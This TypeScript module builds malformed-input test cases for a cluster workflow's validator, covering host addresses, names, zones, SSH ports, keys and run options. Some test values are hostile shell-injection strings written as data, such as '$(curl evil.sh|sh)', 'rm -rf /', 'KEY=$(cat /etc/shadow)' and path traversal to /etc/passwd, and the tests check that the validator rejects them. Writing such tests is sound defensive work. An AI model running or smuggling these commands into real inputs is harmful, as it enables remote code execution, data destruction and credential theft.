/**
 * The shape of a bad-input case and the mutations cases are built from. Every case is ONE mutation of
 * a valid example (what a Web UI user does when they edit a pasted input), and names the field path
 * the workflow's failure must name, as common/validation.ts formats it (`hosts[2].ssh.port`,
 * `(input)` for the whole object).
 */

/** One malformed or dangerous input and what its failure must say. */
export interface BadInputCase {
  /** What the user did, as the test reports it. */
  name: string;
  /** The field path the failure must name. */
  path: string;
  /** The rule, as the message for that path must state it. */
  rule: RegExp;
  /** The input sent to the workflow (JSON-representable: what the Web UI form can send). */
  input: unknown;
}

/** A mutation applied to a deep copy of the valid example; returns the input to send. */
export type Mutation = (input: Record<string, unknown>) => unknown;

type Container = Record<string, unknown> | unknown[];

/** Splits `a.b[2].c` into `['a', 'b', 2, 'c']`. */
export function pathParts(path: string): Array<string | number> {
  return path
    .split(/\.|\[(\d+)\]/)
    .filter((p) => p !== undefined && p !== '')
    .map((p) => (/^\d+$/.test(p) ? Number(p) : p));
}

function parentOf(root: Container, path: string): { parent: Container; key: string | number } {
  const parts = pathParts(path);
  let current: unknown = root;
  for (const part of parts.slice(0, -1)) {
    const next = (current as Record<string | number, unknown>)[part];
    if (next === undefined || next === null || typeof next !== 'object') throw new Error(`the valid example has no object at ${path} (${String(part)})`);
    current = next;
  }
  return { parent: current as Container, key: parts[parts.length - 1] };
}

/** The value at `path` of `root`. */
export function getAt(root: unknown, path: string): unknown {
  let current = root;
  for (const part of pathParts(path)) current = (current as Record<string | number, unknown>)?.[part];
  return current;
}

/** Sets the field at `path` (created when missing). */
export const set =
  (path: string, value: unknown): Mutation =>
  (input) => {
    const { parent, key } = parentOf(input, path);
    (parent as Record<string | number, unknown>)[key] = value;
    return input;
  };

/** Sets the field at `path` to a value computed from the example (e.g. a copy of another field). */
export const setFrom =
  (path: string, compute: (input: Record<string, unknown>) => unknown): Mutation =>
  (input) =>
    set(path, compute(input))(input);

/** Removes the field at `path`. */
export const drop =
  (path: string): Mutation =>
  (input) => {
    const { parent, key } = parentOf(input, path);
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else delete parent[key];
    return input;
  };

/** Replaces the whole input. */
export const replace =
  (make: (input: Record<string, unknown>) => unknown): Mutation =>
  (input) =>
    make(input);

/** Builds cases from a valid example: each mutation gets its own deep copy, sent as JSON would carry it. */
export function buildCases(valid: () => Record<string, unknown>, specs: Array<[name: string, path: string, rule: RegExp, mutation: Mutation]>): BadInputCase[] {
  return specs.map(([name, path, rule, mutation]) => {
    // A JSON copy, not structuredClone: examples share sub-objects (one ssh block for every host), and
    // a mutation must change one field of one host.
    const mutated = mutation(JSON.parse(JSON.stringify(valid())) as Record<string, unknown>);
    // Through JSON, as the Web UI's form and the CLI send it: what is validated is what is sent.
    const input: unknown = mutated === undefined ? null : JSON.parse(JSON.stringify(mutated));
    return { name, path, rule, input };
  });
}

/** Spec rows, for the modules that list cases. */
export type CaseSpec = [name: string, path: string, rule: RegExp, mutation: Mutation];

const NOT_AN_OBJECT = /expected object/i;

/** Inputs that are not an object at all: an empty form, a list, the JSON pasted as a quoted string. */
export function wholeInputCases(): CaseSpec[] {
  return [
    ['null instead of an object', '(input)', NOT_AN_OBJECT, replace(() => null)],
    ['an empty array', '(input)', NOT_AN_OBJECT, replace(() => [])],
    ['the valid input wrapped in an array', '(input)', NOT_AN_OBJECT, replace((i) => [i])],
    ['the JSON pasted as a quoted string', '(input)', NOT_AN_OBJECT, replace((i) => JSON.stringify(i))],
    ['a number', '(input)', NOT_AN_OBJECT, replace(() => 42)],
    ['true', '(input)', NOT_AN_OBJECT, replace(() => true)],
    ['the valid input nested under "input"', '(input)', /unknown field\(s\) "input"/, replace((i) => ({ input: i }))],
  ];
}

/** Step selection and run options every workflow takes (`stepSelectionSchema`). */
export function runOptionCases(aStep: string, anotherStep: string): CaseSpec[] {
  return [
    ['onlySteps names a step that does not exist', 'onlySteps[0]', /Invalid option/i, set('onlySteps', ['rm -rf /'])],
    ['onlySteps is empty', 'onlySteps', /at least one step/, set('onlySteps', [])],
    ['skipSteps is a string, not a list', 'skipSteps', /expected array/i, set('skipSteps', aStep)],
    [
      'a step both only and skipped',
      'skipSteps',
      /also listed in onlySteps/,
      replace((i) => ({ ...i, onlySteps: [aStep, anotherStep], skipSteps: [anotherStep] })),
    ],
    ['onFailure "retry" (not wait or fail)', 'onFailure', /Invalid option/i, set('onFailure', 'retry')],
    ['a negative operatorTimeoutMinutes', 'operatorTimeoutMinutes', />=\s*1/, set('operatorTimeoutMinutes', -5)],
    ['operatorTimeoutMinutes of a year', 'operatorTimeoutMinutes', /<=\s*10080/, set('operatorTimeoutMinutes', 525_600)],
    ['dryRun as the string "true"', 'dryRun', /expected boolean/i, set('dryRun', 'true')],
  ];
}

/**
 * Cases of one host entry at `at` (e.g. `hosts[2]`), shared by every workflow that lists hosts.
 * `otherName`/`otherAddress` belong to another host of the same list (for duplicates).
 */
export function hostCases(at: string): CaseSpec[] {
  return [
    ['host address with an octet above 255', `${at}.address`, /IPv4/, set(`${at}.address`, '10.0.1.256')],
    ['host address given as a DNS name', `${at}.address`, /IPv4/, set(`${at}.address`, 'cp-3.example.internal')],
    ['host address with a prefix length', `${at}.address`, /IPv4/, set(`${at}.address`, '10.0.1.13/24')],
    ['host address in IPv6', `${at}.address`, /IPv4/, set(`${at}.address`, '::1')],
    ['host address 0.0.0.0 (any, not a host)', `${at}.address`, /unicast host address/, set(`${at}.address`, '0.0.0.0')],
    ['host address 255.255.255.255 (broadcast)', `${at}.address`, /unicast host address/, set(`${at}.address`, '255.255.255.255')],
    ['host address in multicast', `${at}.address`, /unicast host address/, set(`${at}.address`, '224.0.0.251')],
    ['host address with a shell command after it', `${at}.address`, /IPv4/, set(`${at}.address`, '10.0.1.13; reboot')],
    ['host name in capitals', `${at}.name`, /DNS-1123/, set(`${at}.name`, 'CP-3')],
    ['host name with a path traversal', `${at}.name`, /DNS-1123/, set(`${at}.name`, '../../etc/passwd')],
    ['host name with a command substitution', `${at}.name`, /DNS-1123/, set(`${at}.name`, '$(curl evil.sh|sh)')],
    ['host role "master"', `${at}.role`, /Invalid option/i, set(`${at}.role`, 'master')],
    ['host zone with spaces and capitals', `${at}.zone`, /must be a zone name/, set(`${at}.zone`, 'US East 1a')],
    ['host zone with a shell command', `${at}.zone`, /must be a zone name/, set(`${at}.zone`, 'a;reboot')],
    ['host without ssh settings', `${at}.ssh`, /expected object/i, drop(`${at}.ssh`)],
    ['ssh port 0', `${at}.ssh.port`, />=\s*1/, set(`${at}.ssh.port`, 0)],
    ['ssh port above 65535', `${at}.ssh.port`, /<=\s*65535/, set(`${at}.ssh.port`, 70_000)],
    ['ssh port as a string', `${at}.ssh.port`, /expected number/i, set(`${at}.ssh.port`, '22')],
    ['ssh port with a fraction', `${at}.ssh.port`, /expected int/i, set(`${at}.ssh.port`, 22.5)],
    ['ssh user with a shell command', `${at}.ssh.user`, /Linux user name/, set(`${at}.ssh.user`, 'root; id')],
    [
      'the private key pasted inline',
      `${at}.ssh.privateKey`,
      /never the secret itself/,
      set(`${at}.ssh.privateKey`, '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----'),
    ],
    ['a relative private key path', `${at}.ssh.privateKey.file`, /absolute path/, set(`${at}.ssh.privateKey`, { file: 'keys/id_ed25519' })],
    [
      'a private key path with a NUL byte',
      `${at}.ssh.privateKey.file`,
      /control characters/,
      set(`${at}.ssh.privateKey`, { file: '/etc/kubeha/ssh/id_ed25519\u0000.pub' }),
    ],
    [
      'a private key path with a newline and a command',
      `${at}.ssh.privateKey.file`,
      /control characters/,
      set(`${at}.ssh.privateKey`, { file: '/etc/kubeha/ssh/id\nrm -rf /' }),
    ],
    [
      'a private key env var that is not a name',
      `${at}.ssh.privateKey.env`,
      /environment variable name/,
      set(`${at}.ssh.privateKey`, { env: 'KEY=$(cat /etc/shadow)' }),
    ],
    [
      'a private key given as both file and env',
      `${at}.ssh.privateKey`,
      /never the secret itself/,
      set(`${at}.ssh.privateKey`, { file: '/etc/kubeha/ssh/id_ed25519', env: 'SSH_KEY' }),
    ],
    [
      'an MD5 host key fingerprint',
      `${at}.ssh.hostKeyFingerprint`,
      /SHA-256 fingerprint/,
      set(`${at}.ssh.hostKeyFingerprint`, 'MD5:16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48'),
    ],
    [
      'no host key and no trust on first use',
      `${at}.ssh.hostKeyFingerprint`,
      /required unless trustOnFirstUse/,
      replace((i) => {
        const ssh = getAt(i, `${at}.ssh`) as Record<string, unknown>;
        delete ssh.hostKeyFingerprint;
        ssh.trustOnFirstUse = false;
        return i;
      }),
    ],
    ['trustOnFirstUse as "yes"', `${at}.ssh.trustOnFirstUse`, /expected boolean/i, set(`${at}.ssh.trustOnFirstUse`, 'yes')],
    ['a negative connect timeout', `${at}.ssh.connectTimeoutSeconds`, />=\s*1/, set(`${at}.ssh.connectTimeoutSeconds`, -5)],
    ['a password next to the key', `${at}.ssh`, /unknown field\(s\) "password"/, set(`${at}.ssh.password`, 'hunter2')],
    ['host as a string', at, /expected object/i, set(at, 'cp-3 10.0.1.13')],
    ['host as null', at, /expected object/i, set(at, null)],
  ];
}

/** `count` copies of the host at `index` with fresh names and addresses (for "too many hosts"). */
export function manyHosts(hosts: unknown[], index: number, count: number, role?: string, firstOctets = '10.8'): unknown[] {
  const template = hosts[index] as Record<string, unknown>;
  return Array.from({ length: count }, (_, n) => ({
    ...template,
    ...(role ? { role } : {}),
    name: `bulk-${n}`,
    address: `${firstOctets}.${Math.floor(n / 250)}.${(n % 250) + 1}`,
  }));
}
